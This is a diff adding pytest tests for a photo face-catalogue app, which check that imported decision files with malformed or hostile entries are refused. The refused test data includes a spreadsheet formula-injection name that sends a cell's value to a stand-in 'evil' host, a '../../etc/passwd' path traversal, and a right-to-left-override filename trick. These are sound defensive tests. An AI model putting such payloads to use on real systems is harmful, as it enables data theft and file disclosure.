@@ -1,0 +1,228 @@
+"""Decisions from a file that anybody may have made: taken in whole, or refused whole with the place that is wrong."""
+
+from __future__ import annotations
+
+import os
+from pathlib import Path
+
+import pytest
+
+from faceorg.catalog import faces, people, photos, vectors
+from faceorg.domain import Box
+from faceorg.errors import Cancelled, InvalidInput
+from faceorg.library.exports import documents
+from faceorg.library.exports.exchange import export_decisions, import_decisions
+from faceorg.library.opening import history
+from faceorg.library.people import edits
+from faceorg.messages.codes import ProblemCode, ReasonCode
+from faceorg.progress import CancelToken
+
+BOX = [0.1, 0.2, 0.3, 0.4]
+
+
+def a_document(photo: str = "0" * 64, **changed: object) -> dict:
+    """A sound document of Anna and Ben with one drawn face of Anna; changed : keys of that face."""
+    face = {"photo": photo, "box": BOX, "person": 1, "rejected": [2], "ignored": None, "drawn": True, "moved": False}
+    everybody = [
+        {"id": 1, "name": "Anna", "hidden": False, "born_on": "1981-03-12", "cover": None},
+        {"id": 2, "name": "Ben", "hidden": False, "born_on": None, "cover": None},
+    ]
+    return {
+        "format": "faceorg decisions",
+        "version": 1,
+        "people": everybody,
+        "separations": [[1, 2]],
+        "faces": [face | {"group": None} | changed],
+    }
+
+
+def with_person(**changed: object) -> dict:
+    document = a_document()
+    document["people"][0] |= changed
+    return document
+
+
+def without(key: str, of: str | None = None) -> dict:
+    document = a_document()
+    del (document[of][0] if of else document)[key]
+    return document
+
+
+INFINITE, NOTHING = float("inf"), float("nan")
+
+REFUSED = [
+    (a_document(box=[INFINITE, 0, 1, 1]), ReasonCode.BOX_OUTSIDE),
+    (a_document(box=[NOTHING] * 4), ReasonCode.BOX_OUTSIDE),
+    (a_document(box=[-5, -5, -1, -1]), ReasonCode.BOX_OUTSIDE),
+    (a_document(box=[0.3, 0.3, 1e308, 1e308]), ReasonCode.BOX_OUTSIDE),
+    (a_document(box=[10**400, 0, 1, 1]), ReasonCode.BOX_OUTSIDE),
+    (a_document(box=[0.8, 0.1, 0.3, 0.1]), ReasonCode.BOX_OUTSIDE),
+    (a_document(box=[0.5, 0.5, 0, 0]), ReasonCode.BOX_EMPTY),
+    (a_document(box=[True, 0, 1, 1]), ReasonCode.ENTRY_OF_WRONG_KIND),
+    (a_document(box=[0.1, 0.1, 0.1]), ReasonCode.ENTRY_OF_WRONG_KIND),
+    (a_document(box="0.1"), ReasonCode.ENTRY_OF_WRONG_KIND),
+    (a_document(photo="../../etc/passwd"), ReasonCode.ENTRY_OF_WRONG_KIND),
+    (a_document(person=3), ReasonCode.PERSON_NOT_IN_DOCUMENT),
+    (a_document(person=1.0), ReasonCode.ENTRY_OF_WRONG_KIND),
+    (a_document(rejected=[2**63]), ReasonCode.NUMBER_OUT_OF_RANGE),
+    (a_document(ignored="boring"), ReasonCode.ENTRY_OF_WRONG_KIND),
+    (a_document(ignored=[]), ReasonCode.ENTRY_OF_WRONG_KIND),
+    (a_document(drawn=1), ReasonCode.ENTRY_OF_WRONG_KIND),
+    (a_document(group=[INFINITE, 1]), ReasonCode.ENTRY_OF_WRONG_KIND),
+    (a_document(group=[2**64, 1]), ReasonCode.NUMBER_OUT_OF_RANGE),
+    (a_document() | {"separations": [[1, 1]]}, ReasonCode.ENTRY_TWICE),
+    (a_document() | {"separations": {}}, ReasonCode.ENTRY_OF_WRONG_KIND),
+    (a_document() | {"people": a_document()["people"] * 2}, ReasonCode.ENTRY_TWICE),
+    (with_person(id=-1), ReasonCode.NUMBER_OUT_OF_RANGE),
+    (with_person(born_on="1981-02-30"), ReasonCode.ENTRY_OF_WRONG_KIND),
+    (with_person(born_on="9999-01-01"), ReasonCode.NUMBER_OUT_OF_RANGE),
+    (with_person(name='=HYPERLINK("http://evil/?x="&A1,"click")'), ReasonCode.NAME_IS_A_FORMULA),
+    (with_person(name="\u200b\u200b"), ProblemCode.NAME_EMPTY),
+    (with_person(name="Anna\u202ecod.exe"), ProblemCode.NAME_WITH_CONTROL_CHARACTERS),
+    (with_person(name=["Anna"]), ReasonCode.ENTRY_OF_WRONG_KIND),
+    (without("faces"), ReasonCode.ENTRY_MISSING),
+    (without("hidden", "people"), ReasonCode.ENTRY_MISSING),
+    (without("box", "faces"), ReasonCode.ENTRY_MISSING),
+]
+
+
+@pytest.mark.parametrize(("document", "reason"), REFUSED)
+def test_a_document_with_one_wrong_entry_is_refused_whole(family, document, reason):
+    with pytest.raises(InvalidInput) as caught:
+        import_decisions(family.library, document, "x.json")
+    assert caught.value.code == ProblemCode.EXPORT_ENTRY_UNKNOWN
+    assert caught.value.fields["why"].fields["why"].code == reason
+    assert people.people(family.library.catalog) == []
+    assert history.history(family.library) == []
+
+
+def test_the_sentence_names_the_place(family):
+    document = a_document()
+    document["faces"].append(document["faces"][0] | {"box": [0.5, 0.5, 0.6, 0.1]})
+    with pytest.raises(InvalidInput) as caught:
+        import_decisions(family.library, document, "x.json")
+    assert caught.value.fields["why"].fields["place"] == "faces[1].box"
+
+
+def test_a_file_beyond_any_export_is_not_read(tmp_path: Path):
+    file = tmp_path / "x.json"
+    with file.open("wb") as stream:
+        stream.truncate(documents.LARGEST_FILE_BYTES + 1)
+    with pytest.raises(InvalidInput) as caught:
+        documents.read_document(file)
+    assert caught.value.code == ProblemCode.EXPORT_TOO_LARGE
+
+
+@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="there are no named pipes here")
+def test_a_pipe_is_not_waited_for(tmp_path: Path):
+    os.mkfifo(tmp_path / "x.json")
+    with pytest.raises(InvalidInput) as caught:
+        documents.read_document(tmp_path / "x.json")
+    assert caught.value.code == ProblemCode.NOT_AN_EXPORT
+
+
+def test_the_documents_that_went_wrong_are_refused_and_the_sound_one_is_not(shared: Path, family):
+    refused, sound = [], []
+    for file in sorted((shared / "field" / "import_documents").glob("*.json")):
+        try:
+            import_decisions(family.library, documents.read_document(file), file.name)
+            sound.append(file.name)
+        except InvalidInput:
+            refused.append(file.name)
+    assert sound == ["valid_drawn.json"]
+    assert len(refused) == 10
+
+
+def test_names_that_only_look_odd_are_taken(family):
+    names = ["-Anna", "@home", "=)", "Zoë", "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645", "+1"]
+    document = a_document() | {"faces": [], "separations": []}
+    document["people"] = [
+        {"id": number, "name": name, "hidden": False, "born_on": None, "cover": None}
+        for number, name in enumerate(names)
+    ]
+    import_decisions(family.library, document, "x.json")
+    assert {person.name for person in people.people(family.library.catalog)} == set(names)
+
+
+def test_two_people_of_one_name_stay_two(family):
+    document = a_document()
+    document["people"][1]["name"] = "Anna"
+    import_decisions(family.library, document, "x.json")
+    assert len(people.people_named(family.library.catalog, "Anna")) == 2
+    import_decisions(family.library, document, "x.json")
+    assert len(people.people_named(family.library.catalog, "Anna")) == 2
+
+
+def a_drawn_face(family, **changed: object):
+    """Import a document with one drawn face in the first photo; returns (photo, what was imported)."""
+    photo = photos.photo(family.library.catalog, 1)
+    assert photo.content_hash is not None
+    document = a_document(photo=photo.content_hash, box=[0.8, 0.05, 0.1, 0.1], rejected=[], **changed)
+    return photo, import_decisions(family.library, document, "x.json")
+
+
+def test_a_drawn_face_gets_its_embedding_with_the_next_scan(family):
+    photo, done = a_drawn_face(family)
+    assert done.edited.changes.photos == {photo.id}
+    family.scan()
+    (drawn,) = [face for face in faces.faces_of_photo(family.library.catalog, photo.id) if face.drawn]
+    assert drawn.box == Box(0.8, 0.05, 0.1, 0.1)
+    assert len(vectors.embeddings_of(family.library.catalog, "fake", [drawn.id]).face_ids) == 1
+
+
+def test_undo_of_an_import_takes_its_drawn_faces_away_and_brings_the_photo_back(family):
+    def seen():
+        return [(face.id, face.box, face.person_id) for face in faces.faces_of_photo(family.library.catalog, 1)]
+
+    before = seen()
+    a_drawn_face(family)
+    family.scan()
+    assert len(seen()) == len(before) + 1
+    history.undo(family.library)
+    assert seen() == before
+    assert vectors.faces_without_embedding(family.library.catalog, "fake") == []
+
+
+def test_the_same_import_again_looks_at_no_photo_again(family):
+    a_drawn_face(family)
+    family.scan()
+    _photo, again = a_drawn_face(family)
+    assert again.edited.changes.photos == frozenset()
+    assert family.scan()[1] == []
+
+
+def test_a_stopped_import_changes_nothing(family):
+    token = CancelToken()
+    token.cancel()
+    with pytest.raises(Cancelled):
+        import_decisions(family.library, a_document(), "x.json", cancel=token)
+    assert people.people(family.library.catalog) == []
+
+
+def test_an_import_asks_the_catalogue_once_for_all_people(family, monkeypatch):
+    """Asking for each person would take hours for a hundred thousand."""
+    asked = []
+    whole = people.people
+    monkeypatch.setattr(people, "people", lambda catalog: asked.append(1) or whole(catalog))
+    document = a_document() | {"faces": [], "separations": []}
+    document["people"] = [
+        {"id": number, "name": f"Person {number}", "hidden": False, "born_on": None, "cover": None}
+        for number in range(500)
+    ]
+    reports = []
+    done = import_decisions(family.library, document, "x.json", progress=reports.append)
+    assert done.people == 500
+    assert len(asked) == 1
+    assert reports[-1].done == reports[-1].total == 500
+
+
+def test_splits_of_a_document_stay_apart(family):
+    everyone = [face.id for face in faces.all_faces(family.library.catalog)]
+    edits.split_faces(family.library, everyone[:2])
+    edits.split_faces(family.library, everyone[2:4])
+    document = export_decisions(family.library)
+    history.undo(family.library)
+    history.undo(family.library)
+    import_decisions(family.library, document, "x.json")
+    found = people.groups(family.library.catalog)
+    assert [found[face] for face in everyone[:4]] == [(1, 1), (1, 1), (2, 2), (2, 2)]
